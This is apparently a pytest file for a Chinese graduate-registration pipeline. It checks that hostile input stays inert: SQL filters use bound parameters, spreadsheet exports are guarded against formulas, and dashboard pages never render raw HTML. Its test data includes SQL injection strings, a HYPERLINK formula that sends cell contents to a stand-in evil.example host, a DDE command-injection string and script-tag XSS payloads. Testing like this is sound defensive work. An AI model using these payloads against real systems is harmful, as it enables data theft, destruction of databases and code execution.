"""Hostile input: SQL through filters and URLs, formulas in names, HTML and script in text
fields. Every value reaches DuckDB as a bound parameter, spreadsheets get strings, and the
pages show text as text."""

from __future__ import annotations

import io
from pathlib import Path

import openpyxl
import pytest

from pipelines import cli, exports, imports
from pipelines.rules import progress
from pipelines.rules.filters import Filters
from pipelines.store import SYSTEM, Actor, Store
from tests.conftest import (
    REGISTRATION_HEADER,
    ROSTER_HEADER,
    registration_row,
    roster_row,
    table,
    write_csv,
)

SQL_ATTACKS = [
    "商学院' or '1'='1",
    "x'; drop table graduates; --",
    '商学院" or 1=1 --',
    "%",
    "' union select * from users --",
]
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
SCRIPT = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>'


@pytest.fixture
def hostile(store: Store, tmp_path: Path) -> Store:
    """Two graduates whose name is a formula and whose registration note is HTML with script."""
    roster = [roster_row(0, 姓名=FORMULA), roster_row(1, 姓名="+cmd|' /C calc'!A0")]
    imports.import_file(store, SYSTEM, "roster", write_csv(tmp_path / "r.csv", ROSTER_HEADER, roster))
    rows = [
        registration_row(0, 姓名=FORMULA, 情况说明=SCRIPT, 审核状态="已退回", 退回原因="@SUM(1+1)*cmd"),
        registration_row(1, 姓名="+cmd|' /C calc'!A0", 情况说明="-2+3"),
    ]
    imports.import_file(store, SYSTEM, "registrations", write_csv(tmp_path / "g.csv", REGISTRATION_HEADER, rows))
    return store


@pytest.mark.parametrize("attack", SQL_ATTACKS)
def test_sql_in_a_filter_is_a_value_that_matches_nothing(hostile: Store, attack: str) -> None:
    with hostile.reading(SYSTEM) as reader:
        for name in ("stats_breakdowns", "review_results"):
            rows = reader.rows(name, cohort=2024, **Filters(college=attack).params())
            assert all(r.get("graduates", 0) == 0 for r in rows) if name == "stats_breakdowns" else rows == []
        assert reader.rows("graduate_list", cohort=2024, search=attack, limit=10, offset=0, **Filters().params()) == []
    assert table(hostile, "select count(*) from graduates") == [(2,)]  # nothing dropped


def test_sql_in_a_deans_scope_cannot_widen_it(hostile: Store) -> None:
    dean = Actor("院长", "college_reviewer", ("服装设计学院' or '1'='1",))
    with hostile.reading(dean) as reader:
        assert reader._conn.execute("select count(*) from graduate_stages").fetchall() == [(0,)]


def test_a_quote_in_a_scope_is_part_of_the_value_and_an_attack_sees_nobody(store: Store, tmp_path: Path) -> None:
    """A reader's scope is set in one script of literals (store._assignments): a college whose
    real name has a quote still matches it, every attack as a college or a 学号 matches nobody
    and runs nothing, and a NUL (which a literal cannot hold) is refused in Chinese."""
    from pipelines.store import StoreError

    roster = [roster_row(0, 学院="圣约翰'设计学院"), roster_row(1)]
    imports.import_file(store, SYSTEM, "roster", write_csv(tmp_path / "r.csv", ROSTER_HEADER, roster))
    with store.reading(Actor("院长", "college_reviewer", ("圣约翰'设计学院",))) as reader:
        assert reader._conn.execute("select student_id from graduate_stages").fetchall() == [("0024000000",)]
    for attack in SQL_ATTACKS:
        for actor in (
            Actor("院长", "college_reviewer", (attack, "商学院' or '1'='1")),
            Actor(attack, "graduate", None, attack),
        ):
            with store.reading(actor) as reader:
                assert reader._conn.execute("select count(*) from graduate_stages").fetchall() == [(0,)]
    assert table(store, "select count(*) from graduates") == [(2,)]  # nothing dropped
    with (
        pytest.raises(StoreError, match="不可见字符"),
        store.reading(Actor("院长", "college_reviewer", ("商\x00学院",))),
    ):
        pass


def test_formulas_in_names_stay_text_in_every_export(hostile: Store, tmp_path: Path) -> None:
    out = tmp_path / "results.csv"
    assert cli.main(["--db", str(hostile.path), "--today", "2024-06-10", "review", "export", "--out", str(out)]) == 0
    text = out.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in text and "'+cmd" in text and "'@SUM" in text and "'-2+3" in text
    assert ",=HYPERLINK" not in text and ",+cmd" not in text
    xlsx = tmp_path / "results.xlsx"
    assert cli.main(["--db", str(hostile.path), "--today", "2024-06-10", "review", "export", "--out", str(xlsx)]) == 0
    for path in (xlsx,):
        sheet = openpyxl.load_workbook(path).active
        cells = [
            c
            for row in sheet.iter_rows()
            for c in row
            if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))
        ]
        assert cells and all(c.data_type == "s" for c in cells)  # strings, never formulas
    with hostile.reading(SYSTEM) as reader:
        risks = reader.query(
            "risk_list",
            cohort=2024,
            review_wait_days=3,
            reason=None,
            limit=10,
            offset=0,
            **Filters().params(),
            **progress.urgency_params(7),
        )
    from datetime import date

    book = exports.chase_list_xlsx(
        progress.describe_risks(risks, date(2024, 6, 17), date(2024, 6, 10)), "服设", date(2024, 6, 10)
    )
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    names = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
    assert names and all(c.data_type == "s" for c in names)


def test_guard_cell_covers_every_formula_start() -> None:
    for start in ("=", "+", "-", "@", "\t", "\r", "\n"):
        assert exports.guard_cell(f"{start}1+1") == f"'{start}1+1"
    assert exports.guard_cell("张三") == "张三" and exports.guard_cell("1+1") == "1+1"


def test_no_page_lets_html_through() -> None:
    """`unsafe_allow_html` is never used: user data could reach it."""
    dashboard = Path(__file__).parent.parent / "dashboard"
    users = [p.name for p in dashboard.rglob("*.py") if "unsafe_allow_html" in p.read_text(encoding="utf-8")]
    assert users == []
